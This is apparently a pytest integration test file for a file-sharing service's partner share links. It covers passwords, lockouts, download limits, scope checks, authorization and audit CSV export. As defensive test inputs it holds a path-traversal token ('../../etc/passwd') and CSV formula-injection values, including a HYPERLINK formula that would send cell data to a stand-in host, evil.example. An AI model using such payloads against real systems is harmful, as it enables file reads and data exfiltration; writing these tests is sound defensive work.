"""Share links end to end: staff create, partners (no account) open, download, upload."""

from __future__ import annotations

import re
import threading
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import requests

from chalicelib.files.s3 import version_key
from tests.conftest import eventually, translated
from tests.integration.test_files import _api, _folder, upload
from tests.support.stack import RunningStack

pytestmark = pytest.mark.integration
Signed = Callable[[str], requests.Session]


class Partner:
    """A browser with no Kumo account: it only has the link it was e-mailed."""

    def __init__(self, stack: RunningStack, url: str) -> None:
        self.stack = stack
        self.http = requests.Session()
        self.token = url.split("#", 1)[1]
        assert url.startswith(f"{stack.base_url}/s/#"), "the token travels in the fragment"
        page = self.http.get(f"{stack.base_url}/api/share", timeout=30)  # any first request: the CSRF cookie
        assert page.status_code == 401
        self.http.headers["X-CSRF-Token"] = self.http.cookies["kumo_csrf"]

    def call(self, method: str, path: str, **kw: Any) -> requests.Response:
        return self.http.request(method, f"{self.stack.base_url}/api/share{path}", timeout=60, **kw)

    def open(self) -> requests.Response:
        return self.call("POST", "/open", json={"token": self.token})


def _share(owner: requests.Session, stack: RunningStack, target: str, **options: Any) -> dict[str, Any]:
    response = _api(owner, stack, "POST", "/api/shares", json={"target_id": target, **options})
    assert response.status_code == 201, response.text
    return response.json()  # type: ignore[no-any-return]


@pytest.fixture
def shared_file(stack: RunningStack, signed_in: Signed) -> dict[str, Any]:
    owner = signed_in("tanaka.h")
    folder = _folder(owner, stack, "dept:somu")
    entry = upload(owner, stack, folder, "仕様書_v2.txt", "共有する仕様書です。".encode()).json()
    other = upload(owner, stack, folder, "内部メモ.txt", b"not shared").json()
    return {"owner": owner, "folder": folder, "file": entry, "other": other}


def test_password_link_partner_downloads_the_file(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    link = _share(
        shared_file["owner"], stack, shared_file["file"]["id"], password="s3cret-pass", message="ご確認ください"
    )
    assert "s3cret" not in str(link) and link["has_password"]
    partner = Partner(stack, link["url"])
    opened = partner.open()
    assert opened.status_code == 200
    assert opened.json()["gates"] == ["password"]
    assert "message" not in opened.json(), "nothing about the content before the password"
    assert "HttpOnly" in opened.headers["Set-Cookie"] and "SameSite=Strict" in opened.headers["Set-Cookie"]
    assert opened.headers["Referrer-Policy"] == "no-referrer"
    assert partner.call("GET", "/folder").status_code == 403
    assert partner.call("POST", "/password", json={"password": "wrong"}).status_code == 401
    through = partner.call("POST", "/password", json={"password": "s3cret-pass"})
    assert through.status_code == 200 and through.json()["message"] == "ご確認ください"
    listing = partner.call("GET", "/folder").json()
    assert [i["name"] for i in listing["items"]] == ["仕様書_v2.txt"]
    url = partner.call("POST", f"/files/{shared_file['file']['id']}/download").json()["url"]
    assert requests.get(url, timeout=30).content == "共有する仕様書です。".encode()

    trail = _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit").json()["items"]
    assert [e["action"] for e in trail][:4] == ["downloaded", "password_ok", "password_failed", "opened"]
    csv = _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit?format=csv")
    assert csv.content.startswith(b"\xef\xbb\xbf") and "downloaded" in csv.content.decode("utf-8-sig")
    assert csv.headers["Content-Disposition"].startswith("attachment;")


def test_a_plain_get_never_counts_and_a_limit_of_n_allows_exactly_n(
    stack: RunningStack, shared_file: dict[str, Any]
) -> None:
    link = _share(shared_file["owner"], stack, shared_file["file"]["id"], max_downloads=3)
    partner = Partner(stack, link["url"])
    assert partner.open().status_code == 200
    for _ in range(3):  # a mail scanner looking at the link and the listing: nothing is counted
        assert partner.call("GET", "/folder").status_code == 200
    results: list[int] = []
    lock = threading.Lock()

    def grab() -> None:
        status = partner.call("POST", f"/files/{shared_file['file']['id']}/download").status_code
        with lock:
            results.append(status)

    threads = [threading.Thread(target=grab) for _ in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(results) == [200, 200, 200] + [410] * 7
    assert _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}").json()["download_count"] == 3


def test_revocation_and_expiry_take_effect_at_once(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    owner = shared_file["owner"]
    link = _share(owner, stack, shared_file["folder"])
    partner = Partner(stack, link["url"])
    assert partner.open().status_code == 200
    assert _api(owner, stack, "POST", f"/api/shares/{link['id']}/revoke").json()["state"] == "revoked"
    assert partner.call("GET", "/folder").status_code == 410
    again = Partner(stack, link["url"]).open()
    assert again.status_code == 410
    assert again.json()["message"] == translated("This link was withdrawn by the person who shared it.")

    expiring = _share(owner, stack, shared_file["folder"])
    late = Partner(stack, expiring["url"])
    assert late.open().status_code == 200
    past = (datetime.now(UTC) - timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%S.%f+0000")
    stack.boto3("dynamodb").update_item(
        TableName="kumo-share_links",
        Key={"link_id": {"S": expiring["id"]}},
        UpdateExpression="SET expires_at = :t",
        ExpressionAttributeValues={":t": {"S": past}},
    )
    assert late.call("GET", "/folder").status_code == 410
    assert Partner(stack, expiring["url"]).open().status_code == 410


def test_wrong_and_malformed_tokens_are_404_and_say_nothing(stack: RunningStack) -> None:
    fake = Partner(stack, f"{stack.base_url}/s/#{'A' * 32}")
    wrong = fake.open()
    fake.token = "../../etc/passwd"
    malformed = fake.open()
    assert wrong.status_code == malformed.status_code == 404
    assert wrong.json()["message"] == malformed.json()["message"]


def test_password_lock_out_per_link_with_the_time_shown(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    link = _share(shared_file["owner"], stack, shared_file["file"]["id"], password="correct-horse")
    first, second = Partner(stack, link["url"]), Partner(stack, link["url"])  # two people, one office IP
    first.open()
    second.open()
    statuses = [
        (first if i % 2 else second).call("POST", "/password", json={"password": f"guess{i}"}).status_code
        for i in range(10)
    ]
    assert statuses[:9] == [401] * 9 and statuses[9] == 429
    locked = first.call("POST", "/password", json={"password": "correct-horse"})
    assert locked.status_code == 429
    assert re.search(r"\d{2}:\d{2}", locked.json()["message"]), "the time the lock ends is shown"
    detail = _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}").json()
    assert detail["locked_until"]
    actions = [
        e["action"] for e in _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit").json()["items"]
    ]
    assert actions.count("password_failed") == 10 and "locked" in actions


def test_changing_the_password_ends_open_partner_sessions(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    owner = shared_file["owner"]
    link = _share(owner, stack, shared_file["file"]["id"], password="first-password")
    partner = Partner(stack, link["url"])
    partner.open()
    assert partner.call("POST", "/password", json={"password": "first-password"}).status_code == 200
    assert _api(owner, stack, "PATCH", f"/api/shares/{link['id']}", json={"password": "second-password"}).ok
    assert partner.call("GET", "/folder").status_code == 401
    reopened = partner.open()
    assert reopened.json()["gates"] == ["password"]


def test_reissue_retires_the_old_token(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    owner = shared_file["owner"]
    link = _share(owner, stack, shared_file["file"]["id"])
    fresh = _api(owner, stack, "POST", f"/api/shares/{link['id']}/reissue").json()
    assert fresh["url"] != link["url"] and fresh["id"] == link["id"]
    assert Partner(stack, link["url"]).open().status_code == 404
    assert Partner(stack, fresh["url"]).open().status_code == 200


def _code_from_outbox(stack: RunningStack, address: str) -> str:
    def find() -> str | None:
        out = stack.kumo("outbox", "--to", address, check=True).stdout
        match = re.search(r"確認コード: (\d{6})", out)
        return match.group(1) if match else None

    return str(eventually(find, timeout_s=20))


def test_email_verification_by_one_time_code(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    address = f"kobayashi-{uuid.uuid4().hex[:6]}@partner.example.co.jp"
    link = _share(shared_file["owner"], stack, shared_file["file"]["id"], verify_email=True, recipients=[address])
    partner = Partner(stack, link["url"])
    assert partner.open().json()["gates"] == ["email"]
    stranger = partner.call("POST", "/email", json={"email": "someone@else.example"})
    assert stranger.status_code == 200, "the same answer whether or not the address was named"
    assert partner.call("POST", "/email", json={"email": address.upper()}).status_code == 200
    code = _code_from_outbox(stack, address)
    wrong = "000000" if code != "000000" else "111111"
    assert partner.call("POST", "/code", json={"code": wrong}).status_code == 401
    assert partner.call("POST", "/code", json={"code": code}).status_code == 200
    assert partner.call("GET", "/folder").status_code == 200
    actors = {
        e["actor"] for e in _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit").json()["items"]
    }
    assert f"partner:{address}" in actors


def test_a_partner_stays_inside_the_links_scope(
    stack: RunningStack, shared_file: dict[str, Any], signed_in: Signed
) -> None:
    owner = shared_file["owner"]
    inner = _folder(owner, stack, shared_file["folder"])
    inside = upload(owner, stack, inner, "内側.txt", b"inside").json()
    link = _share(owner, stack, inner)
    partner = Partner(stack, link["url"])
    partner.open()
    assert [i["name"] for i in partner.call("GET", "/folder").json()["items"]] == ["内側.txt"]
    assert partner.call("POST", f"/files/{inside['id']}/download").status_code == 200
    for outside in (shared_file["other"]["id"], shared_file["folder"], "../" + shared_file["other"]["id"], "dept:somu"):
        assert partner.call("POST", f"/files/{outside}/download").status_code == 404, outside
        assert partner.call("GET", f"/folders/{outside}").status_code == 404, outside
    # A session opened on one link reaches nothing of another.
    other_link = _share(owner, stack, shared_file["other"]["id"])
    assert partner.call("POST", f"/files/{shared_file['other']['id']}/download").status_code == 404
    assert other_link["url"] != link["url"]
    # Staff API calls with a partner cookie alone are not signed in.
    assert partner.http.get(f"{stack.base_url}/api/files/{inside['id']}", timeout=30).status_code == 401


def test_a_file_request_files_each_uploader_apart_and_waits_for_the_scan(
    stack: RunningStack, signed_in: Signed
) -> None:
    owner = signed_in("sakamoto.j")  # 土木部 admin
    folder = _folder(owner, stack, "dept:doboku")
    link = _share(owner, stack, folder, kind="request", message="図面をこちらにお送りください。")
    first, second = Partner(stack, link["url"]), Partner(stack, link["url"])
    first.open()
    second.open()
    assert first.call("GET", "/folder").status_code == 403, "a file request shows no files"

    def send(partner: Partner, who: str, name: str, data: bytes, path: str | None = None) -> requests.Response:
        ticket = partner.call(
            "POST",
            "/uploads",
            json={
                "uploader_name": who,
                "name": name,
                "size": len(data),
                "content_type": "text/plain",
                "relative_path": path,
            },
        )
        assert ticket.status_code == 201, ticket.text
        t = ticket.json()
        requests.post(t["url"], data=t["fields"], files={"file": (name, data)}, timeout=30).raise_for_status()
        return partner.call("POST", f"/uploads/{t['upload_id']}/complete")

    assert send(first, "山田建設 鈴木", "平面図.txt", b"plan", "図面/平面図.txt").status_code == 201
    assert send(second, "九州設計 佐藤", "平面図.txt", b"another plan").status_code == 201
    assert [e["name"] for e in first.call("GET", "/uploads").json()["items"]] == ["平面図.txt"]  # in a subfolder
    assert [e["size"] for e in second.call("GET", "/uploads").json()["items"]] == [len(b"another plan")]
    top = _api(owner, stack, "GET", f"/api/folders/{folder}").json()["items"]
    names = sorted(i["name"] for i in top)
    assert len(names) == 2 and names[0].startswith("九州設計 佐藤 (") and names[1].startswith("山田建設 鈴木 (")
    suzuki = next(i for i in top if i["name"].startswith("山田建設"))
    drawings = _api(owner, stack, "GET", f"/api/folders/{suzuki['id']}").json()["items"]
    assert [(i["kind"], i["name"]) for i in drawings] == [("folder", "図面")]
    plan = _api(owner, stack, "GET", f"/api/folders/{drawings[0]['id']}").json()["items"][0]
    assert plan["scan_status"] in ("pending", "clean")

    inbox = eventually(
        lambda: [
            n
            for n in _api(owner, stack, "GET", "/api/notifications").json()["items"]
            if n["kind"] == "partner_upload" and "平面図.txt" in n["text"]
        ]
    )
    assert inbox
    mail = stack.kumo("outbox", "--to", "sakamoto.j@pref.example.lg.jp", check=True).stdout
    assert "山田建設 鈴木" in mail


def _send(partner: Partner, who: str, name: str, data: bytes) -> dict[str, Any]:
    ticket = partner.call(
        "POST", "/uploads", json={"uploader_name": who, "name": name, "size": len(data), "content_type": "text/plain"}
    )
    assert ticket.status_code == 201, ticket.text
    t = ticket.json()
    requests.post(t["url"], data=t["fields"], files={"file": (name, data)}, timeout=30).raise_for_status()
    done = partner.call("POST", f"/uploads/{t['upload_id']}/complete")
    assert done.status_code == 201, done.text
    return done.json()  # type: ignore[no-any-return]


def test_an_exchange_shows_each_partner_only_what_they_sent_and_tags_it_for_the_scan(
    stack: RunningStack, signed_in: Signed
) -> None:
    owner = signed_in("tanaka.h")
    folder = _folder(owner, stack, "dept:somu")
    staff_file = upload(owner, stack, folder, "配布資料.txt", b"from the prefecture").json()
    link = _share(owner, stack, folder, kind="exchange")
    first, second = Partner(stack, link["url"]), Partner(stack, link["url"])
    first.open()
    second.open()
    assert first.call("GET", "/uploads").json()["items"] == []
    mine = _send(first, "山田建設 鈴木", "回答書.txt", b"first answer")
    theirs = _send(second, "九州設計 佐藤", "回答書.txt", b"the second partner's answer")  # never a version of mine
    assert (theirs["name"], theirs["version"]) == ("回答書 (2).txt", 1)
    _send(second, "九州設計 佐藤", "別紙.txt", b"annex")
    seen = first.call("GET", "/uploads").json()["items"]
    assert [(e["id"], e["name"], e["size"]) for e in seen] == [(mine["id"], "回答書.txt", len(b"first answer"))]
    assert [e["name"] for e in second.call("GET", "/uploads").json()["items"]] == ["別紙.txt", "回答書 (2).txt"]

    s3 = stack.boto3("s3")
    bucket = "kumo-files-123456789012"  # the local stack's default prefix and account
    for sent in (mine, theirs):
        tags = s3.get_object_tagging(Bucket=bucket, Key=version_key("dept:somu", sent["id"], 1))["TagSet"]
        assert {"Key": "kumo-scan", "Value": "required"} in tags, f"{sent['name']}: {tags}"
    staff_tags = s3.get_object_tagging(Bucket=bucket, Key=version_key("dept:somu", staff_file["id"], 1))["TagSet"]
    assert staff_tags == [], "a staff upload is not held for a scan"


def test_partners_cannot_upload_through_a_download_link(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    link = _share(shared_file["owner"], stack, shared_file["folder"])
    partner = Partner(stack, link["url"])
    partner.open()
    response = partner.call(
        "POST", "/uploads", json={"uploader_name": "x", "name": "a.txt", "size": 1, "content_type": "text/plain"}
    )
    assert response.status_code == 403


def test_link_options_are_checked(stack: RunningStack, shared_file: dict[str, Any]) -> None:
    owner, target = shared_file["owner"], shared_file["file"]["id"]
    cases = [
        ({"kind": "request"}, 400),  # a request link needs a folder
        ({"expires_in_days": 365}, 400),
        ({"expires_in_days": -1}, 400),
        ({"password": "short"}, 400),
        ({"max_downloads": 0}, 400),
        ({"verify_email": True}, 400),
        ({"recipients": ["not-an-address"]}, 400),
        ({"kind": "everything"}, 400),
    ]
    for options, status in cases:
        response = _api(owner, stack, "POST", "/api/shares", json={"target_id": target, **options})
        assert response.status_code == status, options
        assert response.json()["message"]


ROLES = ["owner", "same_department", "other_department", "admin", "anonymous", "partner"]


@pytest.mark.parametrize("role", ROLES)
def test_authorization_matrix_for_sharing_endpoints(stack: RunningStack, signed_in: Signed, role: str) -> None:
    owner = signed_in("yamada.k")  # an ordinary member of 総務部 shares their own file
    folder = _folder(owner, stack, "dept:somu")
    entry = upload(owner, stack, folder, "matrix.txt", b"m").json()
    link = _share(owner, stack, entry["id"])
    partner = Partner(stack, link["url"])
    partner.open()
    anonymous = requests.Session()
    anonymous.get(f"{stack.base_url}/login", timeout=30)
    anonymous.headers["X-CSRF-Token"] = anonymous.cookies.get("kumo_csrf", "")
    client = {
        "owner": owner,
        "same_department": signed_in("kondo.m"),
        "other_department": signed_in("kimura.t"),
        "admin": signed_in("admin"),
        "anonymous": anonymous,
        "partner": partner.http,
    }[role]
    calls = {
        "read": ("GET", f"/api/shares/{link['id']}", None),
        "list": ("GET", f"/api/shares?target_id={entry['id']}", None),
        "audit": ("GET", f"/api/shares/{link['id']}/audit", None),
        "file_audit": ("GET", f"/api/files/{entry['id']}/audit", None),
        "change": ("PATCH", f"/api/shares/{link['id']}", {"message": "x"}),
        "reissue": ("POST", f"/api/shares/{link['id']}/reissue", None),
        "create": ("POST", "/api/shares", {"target_id": entry["id"]}),
        "revoke": ("POST", f"/api/shares/{link['id']}/revoke", None),
    }
    expected = {
        "owner": {
            "read": 200,
            "list": 200,
            "audit": 200,
            "file_audit": 200,
            "change": 200,
            "reissue": 200,
            "create": 201,
            "revoke": 200,
        },
        # a colleague sees the file (department visibility) and may share it, but not manage others' links
        "same_department": {
            "read": 404,
            "list": 200,
            "audit": 404,
            "file_audit": 403,
            "change": 404,
            "reissue": 404,
            "create": 201,
            "revoke": 404,
        },
        "other_department": {
            "read": 404,
            "list": 404,
            "audit": 404,
            "file_audit": 404,
            "change": 404,
            "reissue": 404,
            "create": 404,
            "revoke": 404,
        },
        "admin": {
            "read": 200,
            "list": 200,
            "audit": 200,
            "file_audit": 200,
            "change": 200,
            "reissue": 200,
            "create": 201,
            "revoke": 200,
        },
        "anonymous": dict.fromkeys(calls, 401),
        "partner": dict.fromkeys(calls, 401),
    }[role]
    for name, (method, path, body) in calls.items():
        response = client.request(method, f"{stack.base_url}{path}", json=body, timeout=30)
        assert response.status_code == expected[name], f"{role} {name}: {response.status_code} {response.text}"
    if role == "same_department":
        listed = client.get(f"{stack.base_url}/api/shares?target_id={entry['id']}", timeout=30).json()["items"]
        assert link["id"] not in [i["id"] for i in listed], "a colleague does not see someone else's links"


def test_download_all_as_one_zip_keeps_names_and_tree(stack: RunningStack, signed_in: Signed) -> None:
    import io
    import zipfile

    owner = signed_in("tanaka.h")
    folder = _folder(owner, stack, "dept:somu")
    upload(owner, stack, folder, "概要.txt", "概要です".encode())
    upload(owner, stack, folder, "a.txt", b"A", relative_path="資料/a.txt")
    link = _share(owner, stack, folder, max_downloads=1)
    partner = Partner(stack, link["url"])
    partner.open()
    got = partner.call("POST", "/zip", json={})
    assert got.status_code == 200, got.text
    response = requests.get(got.json()["url"], timeout=60)
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert sorted(archive.namelist()) == ["概要.txt", "資料/a.txt"]
        assert archive.read("概要.txt") == "概要です".encode()
    assert partner.call("POST", "/zip", json={}).status_code == 410, "the ZIP counted as the one download"
    staff_zip = _api(owner, stack, "POST", f"/api/files/{folder}/zip", json={})
    assert staff_zip.status_code == 200
    empty = _folder(owner, stack, "dept:somu")
    assert _api(owner, stack, "POST", f"/api/files/{empty}/zip", json={}).status_code == 400


def test_a_partner_form_without_its_csrf_field_gets_the_partners_own_error_page(
    stack: RunningStack, shared_file: dict[str, Any]
) -> None:
    from tests.support.stack import csrf_from

    link = _share(shared_file["owner"], stack, shared_file["file"]["id"], password="s3cret-pass")
    browser = requests.Session()
    opener = browser.get(f"{stack.base_url}/s", timeout=30)
    token = link["url"].split("#", 1)[1]
    opened = browser.post(
        f"{stack.base_url}/s/open",
        data={"token": token, "csrf_token": csrf_from(opener.text)},
        allow_redirects=False,
        timeout=30,
    )
    assert opened.status_code == 303
    for form in ({"password": "s3cret-pass"}, {"password": "s3cret-pass", "csrf_token": "forged"}):
        refused = browser.post(f"{stack.base_url}/s/password", data=form, allow_redirects=False, timeout=30)
        assert refused.status_code == 403
        assert refused.headers["Content-Type"].startswith("text/html")
        assert 'data-testid="share-error"' in refused.text and 'data-status="403"' in refused.text
        assert refused.headers["Referrer-Policy"] == "no-referrer"
        assert 'href="/files' not in refused.text, "not the staff layout"
    page = browser.get(f"{stack.base_url}/s/view", timeout=30)
    assert 'data-testid="password-form"' in page.text, "nothing was let through"


def test_the_audit_csv_shows_a_partners_formula_text_as_text(stack: RunningStack, signed_in: Signed) -> None:
    """A file named =1+2.txt and a partner whose user agent is a formula: Excel must show both as text."""
    import csv
    import io

    owner = signed_in("tanaka.h")
    folder = _folder(owner, stack, "dept:somu")
    name = f"=1+2_{uuid.uuid4().hex[:6]}.txt"
    entry = upload(owner, stack, folder, name, b"formula").json()
    link = _share(owner, stack, entry["id"])
    agent = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    partner = Partner(stack, link["url"])
    partner.http.headers["User-Agent"] = agent
    assert partner.open().status_code == 200
    assert partner.call("POST", f"/files/{entry['id']}/download").status_code == 200
    partner.http.headers["User-Agent"] = "@SUM(A1:A9)"
    assert partner.call("GET", "/folder").status_code == 200

    for path in (f"/api/shares/{link['id']}/audit?format=csv", f"/api/files/{entry['id']}/audit?format=csv"):
        exported = _api(owner, stack, "GET", path)
        assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + agent in cells and "'" + name in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
